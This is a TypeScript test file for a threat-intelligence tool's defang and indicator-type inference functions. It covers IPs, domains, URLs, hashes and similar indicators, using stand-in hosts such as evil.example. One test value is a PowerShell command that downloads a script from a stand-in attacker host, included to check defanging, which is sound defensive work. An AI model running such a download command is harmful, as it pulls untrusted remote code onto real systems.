import assert from 'node:assert/strict';
import { defang, inferIndicatorType } from '../../../server/src/core/report/index.ts';
import type { IndicatorType } from '../../../server/src/core/model/vocabularies.ts';

const cases: readonly (readonly [string, IndicatorType | undefined, string])[] = [
  ['198.51.100.23', 'ipv4', '198[.]51[.]100[.]23'],
  ['198.51.100[.]23', undefined, '198[.]51[.]100[.]23'],
  ['198.51.100.0/24', 'cidr', '198[.]51[.]100[.]0/24'],
  ['198.51.100.23:443', 'ip_port', '198[.]51[.]100[.]23:443'],
  ['2001:db8::1', 'ipv6', '2001[:]db8[:][:]1'],
  ['2001:db8::/32', undefined, '2001[:]db8[:][:]/32'],
  ['evil.example', 'domain', 'evil[.]example'],
  ['evil(dot)example', 'domain', 'evil[.]example'],
  ['evil\u3002example', 'domain', 'evil[.]example'],
  ['first.last@evil.example', 'email', 'first.last[@]evil[.]example'],
  ['a(at)evil[.]example', 'email', 'a[@]evil[.]example'],
  ['https://a.evil.example/x.php?y=1.2', 'url', 'hxxps://a[.]evil[.]example/x.php?y=1.2'],
  ['HTTP://evil.example', undefined, 'hxxp://evil[.]example'],
  ['hxxp://evil[.]example/a.b', 'url', 'hxxp://evil[.]example/a.b'],
  ['hxxp[://]evil.example', 'url', 'hxxp://evil[.]example'],
  ['http://user@evil.example:8080/', 'url', 'hxxp://user[@]evil[.]example:8080/'],
  ['http://[2001:db8::1]:80/a', 'url', 'hxxp://[2001[:]db8[:][:]1]:80/a'],
  ['http://a.example/?u=http://b.example/', 'url', 'hxxp://a[.]example/?u=hxxp://b[.]example/'],
  ['ftp://a.example/f', 'url', 'fxp://a[.]example/f'],
  ['evil.example/login.php', 'url', 'evil[.]example/login.php'],
  ['evil.example', 'other', 'evil[.]example'],
  ['powershell iwr http://evil.example/a.ps1', 'command_line', 'powershell iwr hxxp://evil[.]example/a.ps1'],
  ['invoice.pdf.exe', 'filename', 'invoice.pdf.exe'],
  ['invoice.pdf.exe', undefined, 'invoice.pdf.exe'],
  ['C:\\Windows\\x.dll', 'filepath', 'C:\\Windows\\x.dll'],
  ['d41d8cd98f00b204e9800998ecf8427e', 'md5', 'd41d8cd98f00b204e9800998ecf8427e'],
  ['3:AXGBicFlgVNhBGcL6wCrFQEv:AXGHsNhxLsr2C', 'ssdeep', '3:AXGBicFlgVNhBGcL6wCrFQEv:AXGHsNhxLsr2C'],
];

describe('defang', () => {
  for (const [value, type, expected] of cases) {
    it(`${type ?? 'bare'} ${JSON.stringify(value)}`, () => assert.equal(defang(value, type), expected));
  }
});

describe('inferIndicatorType', () => {
  const types: Readonly<Record<string, IndicatorType>> = {
    '198[.]51[.]100[.]23': 'ipv4',
    'fe80::1': 'ipv6',
    'hxxps://evil[.]example/a': 'url',
    'evil[.]example': 'domain',
    'user[@]evil[.]example': 'email',
    da39a3ee5e6b4b0d3255bfef95601890afd80709: 'sha1',
    'HKLM\\Software\\Run': 'registry_key',
    'update.exe': 'filename',
    AS64496: 'asn',
    'Global\\some-mutex': 'other',
  };
  for (const [value, type] of Object.entries(types)) {
    it(`${value} is ${type}`, () => assert.equal(inferIndicatorType(value), type));
  }
});
